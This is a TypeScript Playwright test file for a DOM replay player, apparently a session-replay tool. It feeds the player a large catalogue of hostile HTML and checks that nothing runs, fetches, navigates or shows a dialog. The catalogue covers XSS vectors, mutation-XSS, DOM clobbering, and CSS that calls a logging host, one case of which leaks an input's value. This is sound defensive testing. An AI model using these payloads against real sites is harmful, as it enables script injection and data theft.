import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type Bed, chunksOf, keyframe, type LooseEvent, openBed, play } from './bed.ts'

let bed: Bed
let page: Page
const navigations: string[] = []
let dialogs = 0
beforeAll(async () => {
  bed = await openBed()
  page = await bed.open()
  page.on('dialog', (dialog) => {
    dialogs++
    void dialog.dismiss()
  })
  page.on('framenavigated', (frame) => navigations.push(frame.url()))
  page.on('popup', () => navigations.push('popup'))
})
afterAll(() => bed.close())
beforeEach(() => {
  bed.requests.length = 0
  navigations.length = 0
  dialogs = 0
})

/** Code that tells of itself by every way it could. */
const run = `globalThis.pwned=1;parent.postMessage('pwned','*');top.document.title='pwned';alert(1);new Image().src='@/js'`
const attribute = (text: string): string => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;')
const wrap = (body: string, head = ''): string => `<html><head>${head}</head><body>${body}</body></html>`

/** `@` stands for the address of a server that notes every request. */
const pages: readonly (readonly [name: string, html: string])[] = [
  ['script', wrap(`<script>${run}</script><script src="@/a.js"></script><script type="module" src="@/b.js"></script>`)],
  ['script in svg', wrap(`<svg><script>${run}</script><script href="@/a.js"></script><script xlink:href="@/b.js"></script></svg>`)],
  ['upper case script', wrap(`<SCRIPT>${run}</SCRIPT><sCript src="@/a.js"></sCript>`)],
  ['image handlers', wrap(`<img src="@/x.png" onerror="${attribute(run)}" onload="${attribute(run)}">`)],
  ['handlers of every kind', wrap(['onclick', 'onfocus', 'onload', 'ontoggle', 'onanimationstart', 'onbegin', 'onpointerrawupdate', 'ONERROR'].map((name) => `<div tabindex="0" ${name}="${attribute(run)}">x</div>`).join(''))],
  ['body and html handlers', `<html onload="${attribute(run)}"><head></head><body onload="${attribute(run)}" onpageshow="${attribute(run)}" onhashchange="${attribute(run)}"></body></html>`],
  ['focus at once', wrap(`<input autofocus="" onfocus="${attribute(run)}"><details open="" ontoggle="${attribute(run)}"><summary>x</summary></details>`)],
  ['javascript links', wrap(`<a href="javascript:${attribute(run)}" target="_top">x</a><a href=" java\nscript:${attribute(run)}">y</a><area href="javascript:${attribute(run)}">`)],
  ['svg links', wrap(`<svg><a href="javascript:${attribute(run)}"><text>x</text></a><a xlink:href="javascript:${attribute(run)}"></a></svg>`)],
  ['math links', wrap(`<math><mtext href="javascript:${attribute(run)}">x</mtext><maction actiontype="statusline#@/m" xlink:href="javascript:${attribute(run)}">y</maction></math>`)],
  ['svg use', wrap(`<svg><use href="@/u.svg#a"></use><use xlink:href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='a' onload='alert(1)'/>#a"></use><image href="@/i.png"></image><feImage href="@/f.png"></feImage></svg>`)],
  ['svg animation of an address', wrap(`<svg><a><animate attributeName="href" values="javascript:${attribute(run)}" begin="0s" dur="1s" fill="freeze"></animate><set attributeName="xlink:href" to="javascript:alert(1)"></set><text>x</text></a><image><set attributeName="href" to="@/set.png"></set></image></svg>`)],
  ['svg handlers', wrap(`<svg onload="${attribute(run)}"><animate onbegin="${attribute(run)}" attributeName="x" dur="1s"></animate><foreignObject><img src="@/f.png" onerror="${attribute(run)}"></foreignObject></svg>`)],
  ['svg paint from elsewhere', wrap(`<svg><rect width="9" height="9" fill="url(@/p.svg#a)" mask="url('@/m.svg#a')" filter="u\\72l(@/f.svg#a)" style="clip-path:url(@/c.svg#a)"></rect></svg>`)],
  ['meta refresh', wrap('', `<meta http-equiv="refresh" content="0;url=@/gone"><meta http-equiv="Content-Security-Policy" content="default-src *">`)],
  ['meta refresh in the body', wrap(`<meta http-equiv="refresh" content="0;url=javascript:${attribute(run)}"><meta name="referrer" content="unsafe-url">`)],
  ['base', wrap(`<img src="x.png"><a href="y" id="a">z</a>`, `<base href="@/base/" target="_top">`)],
  ['forms', wrap(`<form action="@/f" method="post" target="_top" id="f"><input name="a" value="b"><button formaction="javascript:${attribute(run)}" type="submit">x</button><input type="image" src="@/i.png"></form><button form="f" formaction="@/g">y</button><isindex action="@/h"></isindex>`)],
  ['srcdoc', wrap(`<iframe srcdoc="${attribute(`<script>${run}</script><img src="@/s.png">`)}"></iframe>`)],
  ['frames', `<html><head></head><frameset><frame src="@/f.html"></frame></frameset></html>`.replace('</frame>', '')],
  ['iframes', wrap(`<iframe src="@/f.html"></iframe><iframe src="javascript:${attribute(run)}"></iframe><iframe src="data:text/html,<script>alert(1)</script>"></iframe><fencedframe></fencedframe><portal src="@/p"></portal>`)],
  ['object and embed', wrap(`<object data="@/o.svg" type="image/svg+xml"></object><object data="javascript:alert(1)"></object><embed src="@/e.svg"><applet code="@/a"></applet><param name="src" value="@/p">`)],
  ['css import', wrap('', `<style>@import "@/i.css"; @import url(@/j.css) screen; @\\69mport "@/k.css"; body{color:red}</style>`)],
  ['css addresses', wrap(`<p class="a">x</p>`, `<style>.a{background:url(@/a.png);list-style:url("@/b.png");cursor:url(@/c.cur),auto;content:url('@/d.png');background-image:image-set("@/e.png" 1x);mask:u\\72l(@/f.svg#x);border-image:url(@/g.png) 1}</style>`)],
  ['css fonts', wrap(`<p style="font-family:f">x</p>`, `<style>@font-face{font-family:f;src:url(@/f.woff2)}@namespace svg url(@/n);@property --u{syntax:"<url>";inherits:false;initial-value:url(@/p.png)}</style>`)],
  ['css exfiltration by value', wrap(`<input value="secret"><p>x</p>`, `<style>input[value^="s"]{background:url(@/s)}input[value^="s"]~p{background:-webkit-image-set(url(@/t) 1x)}p:hover{background:url(@/h)}</style>`)],
  ['css variables', wrap(`<p>x</p>`, `<style>:root{--a:url(@/v.png)}p{background:var(--a);width:expression(alert(1));behavior:url(@/b.htc);-moz-binding:url(@/x.xml#a)}</style>`)],
  ['style that ends its element', wrap('', `<style>a{}</style><style>/* </styl */ p{background:url("@/q.png\\")}</style>`)],
  ['inline styles', wrap(`<p style="background:url(@/a.png)">x</p><p style="background:URL( '@/b.png' )">x</p><p style="background-image:\\75rl(@/c.png)">x</p><p style="--x:url(@/d.png);background:var(--x)">x</p>`)],
  ['links of the head', wrap('', ['stylesheet', 'preload', 'prefetch', 'dns-prefetch', 'preconnect', 'modulepreload', 'icon', 'manifest', 'prerender', 'import', 'expect', 'alternate stylesheet'].map((rel) => `<link rel="${rel}" href="@/${rel.replace(/ /g, '')}.css" as="script" onload="${attribute(run)}">`).join(''))],
  ['speculation', wrap('', `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["@/s"]}]}</script><script type="importmap">{"imports":{"a":"@/a.js"}}</script>`)],
  ['images', wrap(`<img src="@/a.png" srcset="@/b.png 2x" lowsrc="@/c.png" dynsrc="@/d"><picture><source srcset="@/e.png"><img src="@/f.png"></picture><input type="image" src="@/g.png">`)],
  ['media', wrap(`<video src="@/a.mp4" poster="@/b.png" autoplay=""><source src="@/c.mp4"><track src="@/d.vtt" default=""></video><audio src="@/e.mp3" autoplay=""></audio>`)],
  ['old attributes', wrap(`<table background="@/a.png"><tbody><tr><td background="@/b.png">x</td></tr></tbody></table><body background="@/c.png"></body><bgsound src="@/d.wav">`.replace(/<body[^>]*><\/body>/, '')) ],
  ['pings and attribution', wrap(`<a href="#a" ping="@/p" attributionsrc="@/q">x</a><img attributionsrc="@/r" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`)],
  ['template', wrap(`<template><script>${run}</script><img src="@/t.png"></template><div><template shadowrootmode="open"><img src="@/u.png" onerror="${attribute(run)}"><script>${run}</script><style>:host{background:url(@/v.png)}</style></template></div>`)],
  ['noscript', wrap(`<noscript><img src="@/n.png"><style>@import "@/n.css"</style></noscript><noembed><img src="@/o.png"></noembed><xmp><img src="@/p.png"></xmp>`)],
  ['mutation through parsers', wrap(`<p title="</p><img src=x onerror=alert(1)>">x</p><math><mtext><table><mglyph><style><img src="@/m.png" onerror="alert(1)"></style></mglyph></table></mtext></math>`)],
  ['names that shadow', wrap(`<img name="body" src="data:,"><img name="documentElement"><form name="adoptedStyleSheets"></form><form id="getAnimations"></form><form><input name="parentNode"><input name="insertBefore"><input name="attributes"><input name="nodeType"><input name="children"></form><a id="parent" href="#"></a><a id="requestAnimationFrame" href="#"></a><a id="setTimeout" href="#"></a>`)],
  ['custom elements', wrap(`<x-evil onclick="alert(1)"></x-evil><p is="x-evil">x</p><playhead-player></playhead-player><annotation-xml></annotation-xml>`)],
  ['odd names', wrap(`<a\u0000b></a\u0000b><p on\u0000error="alert(1)" =x="1" "="y" (click)="alert(1)" xml:base="@/x" xlink:href="@/y">x</p>`)],
  ['declarative commands', wrap(`<button popovertarget="p" command="show-popover" commandfor="p">x</button><div popover="manual" id="p" ontoggle="${attribute(run)}">y</div><dialog open="" onclose="alert(1)"><form method="dialog"></form></dialog>`)],
] // prettier-ignore

async function attack(chunks: readonly string[]): Promise<string> {
  const before = page.url()
  const text = await play(page, chunks)
  const seen = await page.evaluate(async () => {
    const { player } = globalThis as never as { player: import('../src/index.ts').Player }
    await player.seek(player.durationMs)
    // Clicks that reach the stage must not reach the page in the frame either.
    const box = document.querySelector('#player')!.getBoundingClientRect()
    document.elementFromPoint(box.left + 20, box.top + 20)?.dispatchEvent(new MouseEvent('click', { bubbles: true }))
    await new Promise((resolve) => setTimeout(resolve, 30))
    return { pwned: (globalThis as { pwned?: unknown }).pwned, title: document.title }
  })
  await page.mouse.click(30, 15)
  const frames = page.frames().filter((frame) => frame !== page.mainFrame())
  const inFrames = await Promise.all(
    frames.map((frame) => frame.evaluate(() => (globalThis as { pwned?: unknown }).pwned).catch(() => 'gone')),
  )
  await page.evaluate(() => (globalThis as never as { player: import('../src/index.ts').Player }).player.destroy())
  expect({ seen, inFrames, requests: bed.requests, dialogs, frames: frames.length }).toEqual({
    seen: { pwned: undefined, title: '' },
    inFrames: [undefined],
    requests: [],
    dialogs: 0,
    frames: 1,
  })
  expect(page.url()).toBe(before)
  expect(navigations.filter((url) => url !== 'about:blank' && url !== `${bed.origin}/frame.html`)).toEqual([])
  return text
}

test('the meters see what is there to be seen', async () => {
  await page.evaluate((origin) => {
    document.body.append(Object.assign(document.createElement('script'), { src: `${origin}/control.js` }))
    alert('control')
  }, bed.origin)
  await expect.poll(() => page.evaluate(() => (globalThis as { pwned?: unknown }).pwned)).toBe(1)
  expect(bed.requests).toEqual(['control.js'])
  expect(dialogs).toBe(1)
  await page.evaluate(() => delete (globalThis as { pwned?: unknown }).pwned)
})

describe('a hostile page runs nothing, asks for nothing, goes nowhere', () => {
  test.each(pages)('%s', async (_name, html) => {
    const hostile = html.replaceAll('@', bed.origin)
    expect(await attack(await chunksOf([keyframe(0, hostile, 100), { type: 'focus', at: 50, id: 0, visible: false }]))).toMatch(/^2 html/m)
  })
})

describe('a hostile change does no more than a hostile page', () => {
  const injected: readonly (readonly [name: string, change: (origin: string) => LooseEvent[]])[] = [
    ['attributes', (origin) => [
      ...['onclick', 'onload', 'onerror', 'onfocus'].map((name): LooseEvent => ({ type: 'attribute', at: 10, id: 5, name, value: run })),
      { type: 'attribute', at: 11, id: 5, name: 'src', value: `${origin}/a.png` },
      { type: 'attribute', at: 11, id: 5, name: 'srcset', value: `${origin}/b.png 1x` },
      { type: 'attribute', at: 11, id: 6, name: 'href', value: `javascript:${run}` },
      { type: 'attribute', at: 11, id: 6, name: 'xlink:href', value: `javascript:${run}` },
      { type: 'attribute', at: 12, id: 7, name: 'srcdoc', value: `<script>${run}</script>` },
      { type: 'attribute', at: 12, id: 7, name: 'src', value: `${origin}/c.html` },
      { type: 'attribute', at: 13, id: 8, name: 'style', value: `background:url(${origin}/d.png)` },
      { type: 'attribute', at: 14, id: 9, name: 'rel', value: 'stylesheet' },
      { type: 'attribute', at: 14, id: 9, name: 'href', value: `${origin}/e.css` },
      { type: 'attribute', at: 15, id: 10, name: 'http-equiv', value: 'refresh' },
      { type: 'attribute', at: 15, id: 10, name: 'content', value: `0;url=${origin}/f` },
      { type: 'attribute', at: 16, id: 11, name: 'action', value: `${origin}/g` },
    ]],
    ['additions', (origin) => [
      { type: 'add', at: 10, parent: 8, before: 0, html: `<script>${run}</script><img src="${origin}/a.png" onerror="${attribute(run)}"><iframe srcdoc="x"></iframe>`, splits: [], empties: [] },
      { type: 'add', at: 11, parent: 4, before: 0, html: `<style>@import "${origin}/b.css";</style><link rel="stylesheet" href="${origin}/c.css">`, splits: [], empties: [] },
      { type: 'add', at: 12, parent: 12, before: 0, html: `p{background:url(${origin}/d.png)}`, splits: [], empties: [] },
      { type: 'move', at: 13, id: 13, parent: 12, before: 0 },
      { type: 'add', at: 14, parent: 999, before: 0, html: '<p>lost</p>', splits: [], empties: [] },
    ]],
    ['style sheets', (origin) => [
      { type: 'sheet', at: 10, owner: 0, css: `@import "${origin}/a.css";body{background:url(${origin}/b.png)}` },
      { type: 'sheet', at: 11, owner: 12, css: `@import "${origin}/c.css";body{background:url(${origin}/d.png)}` },
      { type: 'text', at: 12, id: 13, text: `body{cursor:url(${origin}/e.cur),auto}` },
      { type: 'sheet', at: 13, owner: 8, css: 'x' },
    ]],
    ['assets', (origin) => [
      { type: 'asset', at: 1, url: 'https://shop.example/x.css', hash: 'H'.repeat(22), mime: 'text/css', sizeBytes: 10 },
      { type: 'asset', at: 1, url: 'https://shop.example/x.svg', hash: 'I'.repeat(22), mime: 'text/html', sizeBytes: 10 },
      { type: 'assetBody', at: 2, hash: 'H'.repeat(22), mime: 'text/css', base64: btoa(`@import "${origin}/a.css";p{background:url(${origin}/b.png)}`) },
      { type: 'assetBody', at: 2, hash: 'I'.repeat(22), mime: 'text/html', base64: btoa(`<script>${run}</script>`) },
      { type: 'attribute', at: 10, id: 9, name: 'rel', value: 'stylesheet' },
      { type: 'attribute', at: 10, id: 9, name: 'href', value: 'https://shop.example/x.css' },
      { type: 'attribute', at: 11, id: 5, name: 'src', value: 'https://shop.example/x.svg' },
      { type: 'attribute', at: 11, id: 7, name: 'src', value: 'https://shop.example/x.svg' },
    ]],
  ] // prettier-ignore
  const html = wrap('<div id="d"></div><link><meta><form></form><style>p{}</style>', '').replace(
    '<div id="d">',
    '<img><a>x</a><iframe></iframe><div id="d">',
  )
  // 2 html 3 head 4 body 5 img 6 a 7 "x" …
  const numbered = html.replace('<a>x</a>', '<a></a>')
  test.each(injected)('%s', async (_name, change) => {
    expect(await attack(await chunksOf([keyframe(0, numbered, 13), ...change(bed.origin)]))).toMatch(/^2 html/m)
  })
})
